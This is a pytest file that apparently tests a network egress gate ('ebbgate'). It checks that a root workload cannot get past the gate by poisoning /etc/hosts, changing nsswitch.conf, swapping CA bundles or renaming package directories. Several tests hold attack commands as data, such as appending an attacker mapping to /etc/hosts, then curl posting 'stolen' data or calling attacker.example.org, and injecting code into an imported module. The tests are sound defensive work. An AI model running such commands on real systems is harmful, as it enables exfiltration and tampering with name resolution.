"""What the gate stands on while a workload of root runs beside it: files from which names and trust come."""

from __future__ import annotations

import shutil
from pathlib import Path

from ebbgate.host.name_sources import NameSources
from tests.attacks.programs import PYTHON
from tests.faults.test_broken_hooks import broken_copy
from tests.world import World
from tests.world.internet import ATTACKERS, EVIL

_FORGED = f"{EVIL} api.example.com"


def test_a_line_in_the_hosts_file_leads_nowhere(world: World) -> None:
    """The gate resolves with the system's resolver: root inside wrote into its hosts file, and the run was clean."""
    script = f"echo '{_FORGED}' >> /etc/hosts && curl -sS -d stolen http://api.example.com/"
    outcome = world.guard.run(["--allow", "http://api.example.com"], ["sh", "-c", script])
    assert outcome.code == 90, outcome.stderr
    assert world.packets_to(*ATTACKERS) == set()
    assert _FORGED not in (world.directory / "hosts").read_text()


def test_an_own_line_in_the_hosts_file_works_inside(world: World) -> None:
    program = "import socket; print(socket.gethostbyname('my-database'))"
    outcome = world.guard.run([], ["sh", "-c", f"echo '127.0.0.1 my-database' >> /etc/hosts; {PYTHON} -c \"{program}\""])
    assert outcome.stdout == "127.0.0.1\n", outcome.stderr
    assert outcome.code == 0


def test_the_real_hosts_file_reached_by_another_name(world: World) -> None:
    """The covers can be walked around where a directory can be exchanged; then no name is resolved any more."""
    real = world.directory / "hosts"
    before = real.read_text()
    try:
        script = f"echo '{_FORGED}' >> {real}; curl -sS -d stolen http://api.example.com/"
        outcome = world.guard.run(["--allow", "http://api.example.com"], ["sh", "-c", script])
    finally:
        real.write_text(before)
    assert outcome.code == 92, outcome.stderr
    assert "/etc/hosts was changed" in outcome.stderr
    assert world.packets_to(*ATTACKERS) == set()


def test_how_names_are_looked_for_cannot_be_changed(world: World) -> None:
    outcome = world.guard.run([], ["sh", "-c", "echo 'hosts: files' > /etc/nsswitch.conf"])
    assert outcome.code not in (0, 93)


def test_trust_does_not_change_while_the_command_runs(world: World, tmp_path: Path) -> None:
    """The bundle that SSL_CERT_FILE names may be the workload's own file."""
    bundle = tmp_path / "roots.pem"
    shutil.copy(world.directory / "ca.pem", bundle)
    script = f"echo nothing > {bundle}; curl -sS https://api.example.com/"
    outcome = world.guard.run(["--allow", "api.example.com"], ["sh", "-c", script], env={"SSL_CERT_FILE": str(bundle)})
    assert outcome.code == 0, outcome.stderr
    assert "got GET" in outcome.stdout


def test_a_file_that_was_written_anew_with_the_same_text_is_the_same(tmp_path: Path) -> None:
    file = tmp_path / "resolv.conf"
    file.write_text("nameserver 192.0.2.1\n")
    sources = NameSources([str(file), str(tmp_path / "missing")])
    file.unlink()
    file.write_text("nameserver 192.0.2.1\n")
    assert sources.intact()
    file.write_text("nameserver 192.0.2.2\n")
    assert not sources.intact()
    file.write_text("nameserver 192.0.2.1\n")
    assert not sources.intact()
    assert sources.changed == str(file)


def test_a_package_in_the_place_of_the_gates_is_not_loaded(world: World, tmp_path: Path) -> None:
    """The packages are read-only inside, but a directory above them can be renamed, and the gate imported while it ran."""
    program = broken_copy(tmp_path, "ebbgate.gate.resolver", _IMPORTS_LATER)
    marker = world.directory / "home" / "loaded"
    (tmp_path / "ebbgate" / "later.py").write_text("")
    script = (
        f"mv {tmp_path} {tmp_path}.old && cp -r {tmp_path}.old {tmp_path} && "
        f"echo 'open({str(marker)!r}, \"w\")' > {tmp_path}/ebbgate/later.py; curl -sS https://attacker.example.org/"
    )
    outcome = world.guard.run([], ["sh", "-c", script], program=program)
    assert (tmp_path.parent / f"{tmp_path.name}.old").exists()
    assert outcome.code in (90, 93), outcome.stderr
    assert not marker.exists()


_IMPORTS_LATER = """

_decide_before = Resolver._decide


def _decide_later(self, text):
    import ebbgate.later
    return _decide_before(self, text)


Resolver._decide = _decide_later
"""
